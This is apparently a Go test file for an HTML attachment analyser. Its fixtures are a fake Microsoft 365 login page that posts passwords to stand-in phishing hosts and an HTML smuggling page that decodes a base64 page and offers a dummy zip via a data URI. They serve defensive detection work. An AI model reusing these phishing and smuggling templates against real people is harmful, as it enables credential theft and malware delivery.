package htmlattach

import (
	"archive/zip"
	"bytes"
	"encoding/base64"
	"slices"
	"strings"
	"testing"
)

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

// smuggledZip is what an HTML smuggling page hands the browser: a zip
// holding the real malware.
func smuggledZip(t testing.TB) []byte {
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	f, _ := w.Create("invoice.iso")
	f.Write([]byte("not really an iso"))
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func TestRead(t *testing.T) {
	loginPage := `<!DOCTYPE html><html><head><title>Sign in</title>
<meta http-equiv="refresh" content="30; URL='https://sso-refresh.example-phish.top/again'">
</head><body><p>Microsoft 365: your session expired</p>
<form method="post" action="https://collect.example-phish.top/post.php">
<input name="login"><input type="password" name="passwd"><button formaction="//backup.example-phish.top/p">Go</button></form>
<script>
  if (!document.cookie) { window.location.href = "https://cookie-check.example-phish.top/c"; }
  setTimeout(function(){ location.replace('https://after.example-phish.top/ok') }, 9000);
</script></body></html>`
	inner := `<html><body><h1>Document shared with you</h1><a href="https://onedrive-share.example-phish.top/view">Open</a></body></html>`
	smuggler := `<html><body onload="top.location = 'https://onload.example-phish.top/'"><script>
var page = atob("` + b64(inner) + `");
document.write(page);
var link = document.createElement('a');
link.href = "data:application/zip;base64,` + base64.StdEncoding.EncodeToString(smuggledZip(t)) + `";
link.download = "invoice.zip";
</script><img src="data:text/html;base64,` + b64(`<a href="https://nested.example-phish.top/">x</a> <script>atob("`+b64("https://too-deep.example/")+`")</script>`) + `"></body></html>`

	t.Run("fake login page", func(t *testing.T) {
		d := Read([]byte(loginPage))
		want := []Link{
			{"https://sso-refresh.example-phish.top/again", "meta-refresh"},
			{"https://collect.example-phish.top/post.php", "action"},
			{"//backup.example-phish.top/p", "action"},
			{"https://cookie-check.example-phish.top/c", "location"},
			{"https://after.example-phish.top/ok", "location"},
		}
		for _, w := range want {
			if !slices.Contains(d.Links, w) {
				t.Errorf("missing %+v in %+v", w, d.Links)
			}
		}
		if !strings.Contains(d.Text, "your session expired") || strings.Contains(d.Text, "Sign in") {
			t.Errorf("text %q: want the body's words, not the title", d.Text)
		}
	})
	t.Run("html smuggling", func(t *testing.T) {
		d := Read([]byte(smuggler))
		if !slices.Contains(d.Links, Link{"https://onload.example-phish.top/", "location"}) {
			t.Errorf("onload location missing: %+v", d.Links)
		}
		var html, zipped, nested bool
		for _, p := range d.Payloads {
			switch {
			case p.How == "atob" && slices.Contains(p.Links, Link{"https://onedrive-share.example-phish.top/view", "href"}):
				html = strings.Contains(p.Text, "Document shared with you")
			case p.How == "data-uri" && p.MediaType == "application/zip":
				zipped = bytes.Equal(p.Data, smuggledZip(t))
			case p.How == "data-uri" && p.MediaType == "text/html":
				nested = slices.Contains(p.Links, Link{"https://nested.example-phish.top/", "href"})
			}
		}
		if !html || !zipped || !nested {
			t.Errorf("payloads: atob page %v, smuggled zip %v, data: page %v; got %+v", html, zipped, nested, d.Payloads)
		}
		if len(d.Payloads) != 3 {
			t.Errorf("%d payloads, want 3: a payload's own payloads are not decoded", len(d.Payloads))
		}
	})
}

func TestRefreshURL(t *testing.T) {
	for in, want := range map[string]string{
		"0;url=https://a.example/":       "https://a.example/",
		"5; URL = 'https://b.example/x'": "https://b.example/x",
		`0, "https://c.example/"`:        "https://c.example/",
		"10":                             "",
	} {
		if got := refreshURL(in); got != want {
			t.Errorf("refreshURL(%q) = %q, want %q", in, got, want)
		}
	}
}
